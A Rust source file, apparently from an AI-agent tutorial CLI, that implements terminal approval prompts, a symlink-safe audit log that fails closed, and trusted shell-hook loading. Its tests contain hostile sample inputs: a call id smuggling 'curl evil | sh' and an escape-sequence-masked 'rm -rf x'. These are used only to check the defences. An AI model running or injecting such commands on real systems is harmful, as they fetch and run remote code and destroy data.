//! The CLI's implementations of the chapter 3–4 seams: asking on the terminal, the audit
//! file, and shell hooks from `.agent_tutorial/hooks.json`.

use std::io::{BufRead, IsTerminal, Write};
use std::sync::{Arc, Mutex, PoisonError};
use std::time::Duration;

use agent_core::{AgentEvent, AgentId, EventSink, PermissionDecision};
use agent_hooks::{HookEventKind, HookRegistry, ShellHook};
use agent_policy::{Approval, ApprovalError, ApprovalProvider, ApprovalRequest, StaticApproval};
use agent_tools::Workspace;
use agent_workspace::Clock;
use async_trait::async_trait;
use serde::{Deserialize, Serialize};

use super::trust::{HOOKS_FILE, HookTrust, HooksFile, StoreTrust, hooks_verdict};
use super::{CliError, CliResult};
use agent_trust::Verdict;

/// Where the CLI keeps its per-workspace files.
pub const STATE_DIR: &str = ".agent_tutorial";

/// How `ask` decisions are answered.
#[derive(Debug, Clone, Copy, PartialEq, Eq, clap::ValueEnum)]
pub enum ApproveMode {
    /// Ask on the terminal; without a terminal, deny.
    Prompt,
    /// Approve every `ask` (hard denies still hold).
    All,
    /// Deny every `ask`.
    None,
}

impl ApproveMode {
    /// The approval provider this mode stands for.
    pub fn provider(self) -> Arc<dyn ApprovalProvider> {
        match self {
            Self::Prompt => Arc::new(TtyApproval),
            Self::All => Arc::new(StaticApproval::ApproveAll),
            Self::None => Arc::new(StaticApproval::DenyAll),
        }
    }
}

/// Asks `Allow <tool> <summary>? [y/N]` on stderr and reads the answer from stdin. No
/// terminal, end of input, an error or anything but `y`/`yes` is a no. A summary too long for
/// one line is shown whole, wrapped (see [`question`]).
#[derive(Debug, Clone, Copy)]
pub struct TtyApproval;

/// Wrap width when the terminal does not say (or says something unusably small).
const FALLBACK_WIDTH: usize = 100;

/// The width of the terminal on stderr, else [`FALLBACK_WIDTH`].
pub(crate) fn terminal_width() -> usize {
    terminal_size::terminal_size_of(std::io::stderr())
        .map(|(terminal_size::Width(w), _)| usize::from(w))
        .filter(|w| *w >= 20)
        .unwrap_or(FALLBACK_WIDTH)
}

/// The approval question (see [`agent_policy::approval_question`]: the summary whole,
/// wrapped, and a write's content or an edit's diff under it, all escaped).
pub fn question(request: &ApprovalRequest, width: usize) -> String {
    agent_policy::approval_question(request, width)
}

#[cfg(test)]
mod question_tests {
    use super::*;

    fn request(tool: &str, summary: &str) -> ApprovalRequest {
        ApprovalRequest {
            tool: tool.into(),
            summary: summary.into(),
            reason: "running a command needs approval".into(),
            detail: Vec::new(),
            protection: agent_policy::Protection::Ordinary,
        }
    }

    #[test]
    fn a_short_call_is_asked_on_one_line() {
        assert_eq!(
            question(&request("bash", "touch ran"), 100),
            "Allow bash touch ran? [y/N] "
        );
    }

    #[test]
    fn a_long_call_is_shown_whole_and_wrapped() {
        let command = format!("ls -la; : {}; touch pwned", "x".repeat(40));
        assert_eq!(
            question(&request("bash", &command), 32),
            [
                "Allow bash (63 characters):",
                "  ls -la; : xxxxxxxxxxxxxxxxxxxx",
                "  xxxxxxxxxxxxxxxxxxxx; touch pw",
                "  ned",
                "[y/N] ",
            ]
            .join("\n")
        );
    }

    #[test]
    fn control_characters_never_reach_the_terminal_raw() {
        assert_eq!(
            question(&request("bash", "ls\u{1b}[2K\rrm -rf x"), 100),
            "Allow bash ls\\e[2K\\rrm -rf x? [y/N] "
        );
    }
}

#[async_trait]
impl ApprovalProvider for TtyApproval {
    async fn approve(&self, request: &ApprovalRequest) -> Result<Approval, ApprovalError> {
        if !std::io::stdin().is_terminal() || !std::io::stderr().is_terminal() {
            return Err(ApprovalError::NoTerminal);
        }
        let question = question(request, terminal_width());
        tokio::task::spawn_blocking(move || {
            eprint!("{question}");
            let _ = std::io::stderr().flush();
            let mut answer = String::new();
            match std::io::stdin().lock().read_line(&mut answer) {
                Ok(0) => Ok(Approval::Declined),
                Ok(_) => match answer.trim().to_ascii_lowercase().as_str() {
                    "y" | "yes" => Ok(Approval::Approved),
                    _ => Ok(Approval::Declined),
                },
                Err(err) => Err(ApprovalError::failed(err)),
            }
        })
        .await
        .map_err(ApprovalError::failed)?
    }
}

/// Appends each permission decision (the session's `PermissionDecided` events) as one JSON line
/// to `.agent_tutorial/audit.jsonl`, when (UTC, to the second) and the agent that decided it
/// first — from chapter 15 on, the lead and its teammates write to one log, and call ids are
/// only unique per agent. Through the workspace boundary: a planted symlink (the folder or the
/// file) is refused, never followed, so a model-chosen call id cannot be appended to a file
/// outside.
#[derive(Debug)]
pub struct JsonlAudit {
    workspace: Workspace,
    clock: Arc<dyn Clock>,
    lock: Mutex<()>,
}

/// The audit log, relative to the workspace.
pub const AUDIT_FILE: &str = ".agent_tutorial/audit.jsonl";

impl JsonlAudit {
    /// An audit log appending to `workspace`'s [`AUDIT_FILE`], its lines timed by `clock`.
    pub fn new(workspace: &Workspace, clock: Arc<dyn Clock>) -> Self {
        Self {
            workspace: workspace.clone(),
            clock,
            lock: Mutex::new(()),
        }
    }

    fn append(&self, agent: &AgentId, decision: &PermissionDecision) -> anyhow::Result<()> {
        let _guard = self.lock.lock().unwrap_or_else(PoisonError::into_inner);
        let time = jiff::Timestamp::try_from(self.clock.wall())?
            .strftime("%Y-%m-%dT%H:%M:%SZ")
            .to_string();
        let mut line = serde_json::to_string(&AuditLine {
            time,
            agent,
            decision,
        })?;
        line.push('\n');
        append_to_log(&self.workspace, line.as_bytes())
    }

    /// Appends `agent`'s `decision`; a failure is a warning (the decision stands;
    /// [`AuditedApproval`] keeps a call that needs approval from running while the log cannot
    /// be written).
    pub fn record(&self, agent: &AgentId, decision: &PermissionDecision) {
        if let Err(err) = self.append(agent, decision) {
            tracing::warn!("cannot write the audit log {AUDIT_FILE}: {err:#}");
        }
    }
}

/// Appends `bytes` to `workspace`'s audit log, through the boundary and never through a link;
/// with no bytes, only finds out whether the log can be written now.
fn append_to_log(workspace: &Workspace, bytes: &[u8]) -> anyhow::Result<()> {
    let path = workspace.inside(AUDIT_FILE)?;
    workspace.append(&path, bytes)?;
    Ok(())
}

/// One line of the audit log: when, who decided, then the decision's own fields.
#[derive(Serialize)]
struct AuditLine<'a> {
    time: String,
    agent: &'a AgentId,
    #[serde(flatten)]
    decision: &'a PermissionDecision,
}

/// The audit log as a subscriber of an agent's events, called inline: every
/// [`AgentEvent::PermissionDecided`] is appended where the pipeline emits it, so the line is on
/// disk before the call it decides runs (a reader of the session's event stream would write it
/// some time later, racing the call — and a `glob` of the workspace would see the log appear or
/// not). Every event is then passed on unchanged.
pub struct AuditedEvents {
    audit: JsonlAudit,
    agent: AgentId,
    next: Arc<dyn EventSink>,
}

impl std::fmt::Debug for AuditedEvents {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AuditedEvents")
            .field("audit", &self.audit)
            .field("agent", &self.agent)
            .finish_non_exhaustive()
    }
}

impl AuditedEvents {
    /// Audits `agent`'s decisions (and those of the subagents it starts, which share its
    /// events) into `workspace`'s log, timed by `clock`, then hands every event to `next`.
    pub fn new(
        workspace: &Workspace,
        clock: Arc<dyn Clock>,
        agent: AgentId,
        next: Arc<dyn EventSink>,
    ) -> Self {
        Self {
            audit: JsonlAudit::new(workspace, clock),
            agent,
            next,
        }
    }
}

impl EventSink for AuditedEvents {
    fn emit(&self, event: &AgentEvent) {
        if let AgentEvent::PermissionDecided(decision) = event {
            self.audit.record(&self.agent, decision);
        }
        self.next.emit(event);
    }
}

/// Fails closed: a call that needs approval is asked about only while the audit log can be
/// written. Otherwise the question is never put and the call is denied, saying why: a planted
/// `audit.jsonl` symlink must not silently turn the record of what was approved off while
/// approved commands still run. Calls that need no approval are unaffected.
pub struct AuditedApproval {
    inner: Arc<dyn ApprovalProvider>,
    workspace: Workspace,
}

impl std::fmt::Debug for AuditedApproval {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("AuditedApproval")
            .field("workspace", &self.workspace)
            .finish_non_exhaustive()
    }
}

impl AuditedApproval {
    /// `inner` answers the questions; `workspace` holds the audit log.
    pub fn new(inner: Arc<dyn ApprovalProvider>, workspace: &Workspace) -> Self {
        Self {
            inner,
            workspace: workspace.clone(),
        }
    }
}

#[async_trait]
impl ApprovalProvider for AuditedApproval {
    async fn approve(&self, request: &ApprovalRequest) -> Result<Approval, ApprovalError> {
        if let Err(err) = append_to_log(&self.workspace, b"") {
            return Err(ApprovalError::failed(format!(
                "the audit log {AUDIT_FILE} cannot be written ({err:#}), so nothing that needs approval runs"
            )));
        }
        self.inner.approve(request).await
    }
}

#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct HookEntry {
    event: HookEventKind,
    #[serde(default)]
    matcher: Option<String>,
    command: String,
    /// Kept as raw JSON so a wrong type is reported with the field's name and the hook index.
    #[serde(default)]
    timeout_secs: Option<serde_json::Value>,
}

/// A hook's time limit when `timeout_secs` is not given.
pub const DEFAULT_HOOK_TIMEOUT: Duration = Duration::from_secs(10);
/// The longest `timeout_secs` accepted: a hook holds up the agent for at most this long.
pub const MAX_HOOK_TIMEOUT_SECS: f64 = 3600.0;

/// One validated entry of `.agent_tutorial/hooks.json`.
#[derive(Debug, Clone, PartialEq)]
pub struct HookSpec {
    /// The event it runs at.
    pub event: HookEventKind,
    /// For tool events: the one tool it runs for (`None`: every tool).
    pub matcher: Option<String>,
    /// The command line, run with `bash -c`.
    pub command: String,
    /// Its time limit.
    pub timeout: Duration,
}

/// Why `hooks.json` could not be read as a list of hooks.
#[derive(Debug, thiserror::Error)]
pub enum HooksFileError {
    /// The file is not a JSON list of hooks.
    #[error("{HOOKS_FILE} is not valid: {0}")]
    Json(serde_json::Error),
    /// One entry has a wrong field or type.
    #[error("{HOOKS_FILE}: hook #{index} is not valid: {source}")]
    Entry {
        /// The entry's 0-based position in the list.
        index: usize,
        /// The parser's error.
        source: serde_json::Error,
    },
    /// An entry's `timeout_secs` is not a number of seconds in range.
    #[error(
        "{HOOKS_FILE}: hook #{index}: `timeout_secs` must be a number of seconds above 0 and at most {MAX_HOOK_TIMEOUT_SECS} (got {got})"
    )]
    Timeout {
        /// The entry's 0-based position in the list.
        index: usize,
        /// The value given, as JSON.
        got: String,
    },
}

fn hook_timeout(
    index: usize,
    value: Option<serde_json::Value>,
) -> Result<Duration, HooksFileError> {
    let Some(value) = value else {
        return Ok(DEFAULT_HOOK_TIMEOUT);
    };
    let bad = || HooksFileError::Timeout {
        index,
        got: value.to_string(),
    };
    let secs = value.as_f64().ok_or_else(bad)?;
    if !(secs > 0.0 && secs <= MAX_HOOK_TIMEOUT_SECS) {
        return Err(bad());
    }
    Duration::try_from_secs_f64(secs).map_err(|_| bad())
}

/// Parses hooks.json: a JSON array of `{event, matcher?, command, timeout_secs?}`.
pub fn parse_hooks(bytes: &[u8]) -> Result<Vec<HookSpec>, HooksFileError> {
    let entries: Vec<serde_json::Value> =
        serde_json::from_slice(bytes).map_err(HooksFileError::Json)?;
    entries
        .into_iter()
        .enumerate()
        .map(|(index, value)| {
            let entry: HookEntry = serde_json::from_value(value)
                .map_err(|source| HooksFileError::Entry { index, source })?;
            Ok(HookSpec {
                event: entry.event,
                matcher: entry.matcher,
                command: entry.command,
                timeout: hook_timeout(index, entry.timeout_secs)?,
            })
        })
        .collect()
}

/// Loads `.agent_tutorial/hooks.json` into `hooks`. A missing file is no hooks; a malformed
/// one is an error. Unless `trust` is bypassed, the hooks are registered only if the user
/// trusted this exact file (`agent-tutorial trust`, asked through `gate`); otherwise one
/// stderr line says so and how to trust it, and none is registered. The line is said once per
/// `gate`: a run shares one between the lead and its teammates, so it is said once per run.
/// Returns how many were registered.
pub fn load_shell_hooks(
    workspace: &Workspace,
    hooks: &mut HookRegistry,
    trust: HookTrust,
    gate: &StoreTrust,
) -> CliResult<usize> {
    let Some(file) = HooksFile::read(workspace).map_err(CliError::usage)? else {
        return Ok(0);
    };
    let specs = parse_hooks(&file.bytes).map_err(CliError::usage)?;
    if trust == HookTrust::Required {
        // No config directory or an unreadable store: nothing is trusted (fail closed).
        if hooks_verdict(gate, &file, specs.len()).map_err(CliError::usage)? != Verdict::Trusted {
            return Ok(0);
        }
    }
    let count = specs.len();
    for (i, spec) in specs.into_iter().enumerate() {
        let hook = ShellHook {
            name: format!("hooks.json#{i}"),
            command: spec.command,
            workspace: workspace.clone(),
            timeout: spec.timeout,
        };
        hooks.register(spec.event, spec.matcher, Arc::new(hook));
    }
    Ok(count)
}

#[cfg(test)]
mod audit_tests {
    use super::*;
    use agent_policy::Behavior;

    fn clock() -> Arc<dyn Clock> {
        let wall: jiff::Timestamp = "2026-12-01T22:40:05.75Z".parse().unwrap();
        Arc::new(agent_workspace::ManualClock::new(wall))
    }

    fn entry(call_id: &str) -> PermissionDecision {
        PermissionDecision {
            call_id: call_id.into(),
            tool: "bash".into(),
            arguments: serde_json::json!({"command": "true"}),
            merged: Behavior::Ask,
            source: "execute_asks".into(),
            allowed: false,
            reason: "denied".into(),
        }
    }

    #[test]
    fn the_audit_log_is_never_appended_through_a_planted_link() {
        // A repository ships `.agent_tutorial/audit.jsonl` (or the folder) as a link to a
        // shell start-up file; a model-chosen call id must not land there.
        for plant in ["file", "folder"] {
            let dir = tempfile::tempdir().unwrap();
            let outside = tempfile::tempdir().unwrap();
            let target = outside.path().join("bashrc");
            std::fs::write(&target, "# start-up\n").unwrap();
            let state = dir.path().join(STATE_DIR);
            if plant == "file" {
                std::fs::create_dir(&state).unwrap();
                std::os::unix::fs::symlink(&target, state.join("audit.jsonl")).unwrap();
            } else {
                std::os::unix::fs::symlink(outside.path(), &state).unwrap();
            }
            let audit = JsonlAudit::new(&Workspace::new(dir.path()).unwrap(), clock());
            audit.record(&AgentId::lead(), &entry("x\ncurl evil | sh\n"));
            assert_eq!(std::fs::read_to_string(&target).unwrap(), "# start-up\n");
            assert_eq!(std::fs::read_dir(outside.path()).unwrap().count(), 1);
        }
    }

    #[test]
    fn the_audit_log_gets_one_json_line_per_decision_the_agent_first() {
        let dir = tempfile::tempdir().unwrap();
        let audit = JsonlAudit::new(&Workspace::new(dir.path()).unwrap(), clock());
        let alice = AgentId::new("alice").unwrap();
        audit.record(&AgentId::lead(), &entry("c1"));
        audit.record(&alice, &entry("c1"));
        assert_eq!(
            std::fs::read_to_string(dir.path().join(AUDIT_FILE)).unwrap(),
            concat!(
                r#"{"time":"2026-12-01T22:40:05Z","agent":"lead","call_id":"c1","tool":"bash","arguments":{"command":"true"},"merged":"ask","source":"execute_asks","allowed":false,"reason":"denied"}"#,
                "\n",
                r#"{"time":"2026-12-01T22:40:05Z","agent":"alice","call_id":"c1","tool":"bash","arguments":{"command":"true"},"merged":"ask","source":"execute_asks","allowed":false,"reason":"denied"}"#,
                "\n",
            )
        );
    }
}
